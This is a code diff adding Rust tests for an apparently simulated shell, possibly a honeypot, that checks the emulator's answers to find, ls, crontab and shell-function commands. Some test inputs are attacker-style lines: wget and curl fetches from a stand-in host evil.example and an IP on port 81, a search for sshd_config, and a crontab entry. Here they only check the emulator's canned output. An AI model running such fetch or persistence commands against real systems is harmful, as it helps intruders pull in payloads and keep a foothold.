@@ -186,6 +186,54 @@ fn a_long_text_is_run_to_its_end() {
     assert_eq!(answer(&[&script]).0, "end\n");
 }
 
+/// What is found is what he made, too, and what is done with it is done.
+#[test]
+fn folders_are_looked_through() {
+    let made = "mkdir -p /tmp/q/d; cd /tmp/q; touch a d/b; echo x > d/c.sh; chmod +x d/c.sh;";
+    let table = [
+        ("find", ".\n./a\n./d\n./d/b\n./d/c.sh\n"),
+        ("find . -name '*.SH'; find . -iname '*.SH' -o -name a", "./a\n./d/c.sh\n"),
+        ("find d -maxdepth 1 -type f -empty; find . -perm -111 -type f; find . -size +0 -type f", "d/b\n./d/c.sh\n./d/c.sh\n"),
+        ("find . -type f -name b -delete; find d; rm -r d; find", "d\nd/c.sh\n.\n./a\n"),
+        ("find d -type f -exec cat {} \\; -print | tail -2; find . ! -type d | xargs -n1 basename", "x\nd/c.sh\na\nb\nc.sh\n"),
+        ("ls -R; ls -F d; ls -p; ls -m", ".:\na\nd\n\n./d:\nb\nc.sh\nb\nc.sh*\na\nd/\na, d\n"),
+        ("find / -name sshd_config 2>/dev/null; find . -mindepth 2 -path './d/*' -quit", "/etc/ssh/sshd_config\n"),
+        ("echo '* * * * * id' | crontab -; crontab -l; crontab -r; crontab -l 2>&1", "* * * * * id\nno crontab for root\n"),
+    ];
+    for (line, expected) in table {
+        assert_eq!(answer(&[&alloc::format!("{made} {line}")]).0, expected, "{line}");
+    }
+    let told = answer(&["wget -O- evil.example/x; curl evil.example/x; curl -s 198.51.100.9:81/x -S"]).1;
+    assert_eq!(
+        told,
+        "--2026-11-30 12:00:00--  http://evil.example/x\nResolving evil.example (evil.example)... failed: Temporary failure in name \
+         resolution.\nwget: unable to resolve host address \u{2018}evil.example\u{2019}\n".to_string()
+            + "  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n"
+            + "                                 Dload  Upload   Total   Spent    Left  Speed\n"
+            + "\r  0     0    0     0    0     0      0      0 --:--:-- --:--:-- --:--:--     0curl: (6) Could not resolve host: evil.example\n"
+            + "curl: (7) Failed to connect to 198.51.100.9 port 81 after 1 ms: Could not connect to server\n"
+    );
+}
+
+/// What was typed in one line is known in the next, and in no other shell.
+#[test]
+fn functions_and_what_is_exported_stay() {
+    let persona = Persona::of([7; 32]);
+    let shell = Shell::new(&persona, b"root", NOON, true);
+    let (mut place, mut output) = (Place::default(), Output::default());
+    for line in [
+        "f() {",
+        "echo \"f $1\"",
+        "}",
+        "f a; x=1; export y=2",
+        "bash -c 'f b; echo [$x$y]' 2>&1; env | grep -c ^x=",
+        "unset -f f; f 2>&1",
+    ] {
+        let _ = shell.run_line(line.as_bytes(), &mut place, &mut output);
+    }
+    assert_eq!(said(&output.out), "f a\nbash: line 1: f: command not found\n[2]\n0\n-bash: f: command not found\n");
+}
+
 /// A line that breaks off ends no session of who typed it.
 #[test]
 fn a_wrong_sum_is_no_end() {
